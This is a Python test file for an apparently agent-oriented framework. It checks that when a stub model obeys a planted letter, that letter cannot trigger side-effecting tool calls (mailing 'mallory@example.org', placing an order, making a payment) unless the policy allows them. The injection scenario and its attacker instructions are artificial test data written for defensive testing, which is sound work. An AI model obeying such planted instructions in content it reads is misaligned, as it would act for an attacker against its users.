"""A look-up after untrusted words: unasked where the SOP says that it changes nothing and allows it by name, else asked about.

A real MCP server, a real HTTP service and functions; the model does whatever the planted letter tells it to. Beside each
look-up the letter orders an act (a mail, an order, a payment): none of them ever happens unasked.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from metaflow_agents import start
from metaflow_agents.models.port import ModelRequest, Reply, ToolCall
from metaflow_agents.schema.event import Decided, Done, Intended
from security.injection_model import instructions, spelled
from security.test_injection import DESK, SHOP, listening

TILL = '''
import pathlib
def stock(item: str) -> str:
    """How many there are."""
    return f"7 of {item}"
def pay(item: str) -> str:
    """Pays."""
    pathlib.Path(__file__).with_name("paid.txt").write_text(item)
    return "paid"
'''
LOOKUPS: dict[str, dict[str, Any]] = {
    "mcp(desk.read_mail)": {"tool": "desk.read_mail", "arguments": {}},
    "api(shop.listOrders)": {"tool": "shop.listOrders", "arguments": {}},
    "call(stock)": {"tool": "stock", "arguments": {"item": "tea"}}}
ACTS: dict[str, dict[str, Any]] = {
    "mcp(desk.send_mail)": {"tool": "desk.send_mail", "arguments": {"to": "mallory@example.org", "text": "7 of tea"}},
    "api(shop.createOrder)": {"tool": "shop.createOrder", "arguments": {"item": "tea", "note": "7"}},
    "call(pay)": {"tool": "pay", "arguments": {"item": "tea"}}}
NAMED = list(LOOKUPS)
WIDE = ["mcp(desk.*)", "api(shop.*)", "call(**)"]
NONE = {"desk": "none", "shop": "none", "stock": "none"}


def obedient(request: ModelRequest) -> Any:
    """Makes all calls that it is told to make in one turn."""
    if any(message["role"] == "tool" for message in request.messages):
        return "done"
    told = [call for message in request.messages for call in instructions(str(message["content"]))]
    return Reply("", calls=tuple(ToolCall(f"c{place}", call["name"], call["arguments"]) for place, call in enumerate(told)))


def procedure(folder: Path, service: str, policy: dict[str, Any], effects: dict[str, str], role: dict[str, Any] | None,
              trusts: list[str]) -> Path:
    (folder / "till.py").write_text(TILL)
    (folder / "desk").mkdir()
    (folder / "desk/mail.txt").write_text("no news")
    (folder / "shop.json").write_text(json.dumps({**SHOP, "servers": [{"url": f"http://{service}"}]}))
    (folder / "letter.txt").write_text(" ".join(map(spelled, (*LOOKUPS.values(), *ACTS.values()))))
    desk_effects = {"read_mail": effects["desk"]} if "desk" in effects else {}
    path = folder / "lookups.yaml"
    path.write_text(yaml.safe_dump({
        "sop": "lookups", "inputs": {"letter": "file"}, "policy": policy,
        "mcpServers": {"desk": {"command": sys.executable, "args": [str(DESK), str(folder / "desk")], "effects": desk_effects}},
        "openapi": {"shop": {"spec": "shop.json", "effects": {"listOrders": effects["shop"]} if "shop" in effects else {}}},
        "tools": {"stock": {"python": "till:stock", **({"effect": effects["stock"]} if "stock" in effects else {})},
                  "pay": {"python": "till:pay", "effect": "once"}},
        "roles": {"clerk": {"profile": "You answer.", "tools": ["desk.*", "shop.*", "stock", "pay"],
                            **({} if role is None else {"policy": role})}},
        "artifacts": {"note": {}},
        "steps": {"answer": {"role": "clerk", "needs": ["letter"], "makes": "note", "trusts": trusts}}}))
    return path


async def played(folder: Path, policy: dict[str, Any], effects: dict[str, str], role: dict[str, Any] | None = None,
                 trusts: list[str] | None = None) -> tuple[dict[str, str], set[str], list[str]]:
    """The verdict about each action, what was carried out, and what happened outside."""
    heard: list[str] = []
    async with listening("[]", heard) as service:
        path = procedure(folder, service, policy, effects, role, trusts or [])
        async with start(path, inputs={"letter": str(folder / "letter.txt")}, model=obedient, workspace=folder / "w") as going:
            await going.result()
            events = [event for _, event in going.journal.events()]
    decided = {event.action: event.verdict for event in events if isinstance(event, Decided)}
    assert all(event.untrusted for event in events if isinstance(event, Decided)) or trusts
    tools = {event.key: event.tool for event in events if isinstance(event, Intended)}
    done = {tools[event.key] for event in events if isinstance(event, Done) and not event.refused}
    outside = [name for name in ("desk/done.txt", "paid.txt") if (folder / name).exists()]
    return decided, done, outside + [line for line in heard if not line.startswith("GET /orders")]


@pytest.mark.one_in(8)
async def test_named_look_ups_are_made_and_acts_are_asked_about(tmp_path: Path) -> None:
    decided, done, outside = await played(tmp_path, {"allow": [*NAMED, *WIDE]}, NONE)
    assert {action: decided[action] for action in LOOKUPS} == dict.fromkeys(LOOKUPS, "allow")
    assert {action: decided[action] for action in ACTS} == dict.fromkeys(ACTS, "ask")
    assert done == {call["tool"] for call in LOOKUPS.values()} and outside == []


@pytest.mark.one_in(16, always=False)
@pytest.mark.parametrize(("policy", "effects", "role"), [
    ({"allow": WIDE}, NONE, None),
    ({"allow": ["mcp(desk.rea[d]_mail)", "api(shop.listOrder?)", "call(stoc*)"]}, NONE, None),
    ({"preset": "danger-full-access"}, NONE, None),
    ({"preset": "danger-full-access"}, NONE, {"allow": NAMED}),
    ({"allow": NAMED}, {}, None),
    ({"allow": NAMED}, dict.fromkeys(NONE, "idempotent"), None),
    ({"allow": NAMED}, dict.fromkeys(NONE, "once"), None),
    ({"allow": NAMED, "ask": ["mcp", "api", "call"]}, NONE, None),
    ({"allow": NAMED}, NONE, {"ask": ["mcp", "api", "call"]}),
], ids=["by a wildcard", "by patterns of one name", "by a preset", "by the role alone", "effects left out", "idempotent", "once",
        "asked about", "asked about by the role"])
async def test_nothing_else_is_made_unasked(tmp_path: Path, policy: dict[str, Any], effects: dict[str, str],
                                            role: dict[str, Any] | None) -> None:
    decided, done, outside = await played(tmp_path, policy, effects, role)
    assert set(decided) == {*LOOKUPS, *ACTS} and set(decided.values()) <= {"ask", "deny"}
    assert {decided[action] for action in LOOKUPS} == {"ask"}
    assert done == set() and outside == []


@pytest.mark.one_in(8)
@pytest.mark.parametrize(("trusts", "acts"), [(["letter"], True), (["tool.desk.read_mail"], False), (["desk"], False),
                                              (["tool.stock", "tool.shop.listOrders"], False)])
async def test_trust_in_a_tool_is_no_trust_in_the_letter(tmp_path: Path, trusts: list[str], acts: bool) -> None:
    decided, _, outside = await played(tmp_path, {"allow": [*NAMED, *ACTS]}, NONE, trusts=trusts)
    assert (decided["mcp(desk.send_mail)"], bool(outside)) == (("allow", True) if acts else ("ask", False))
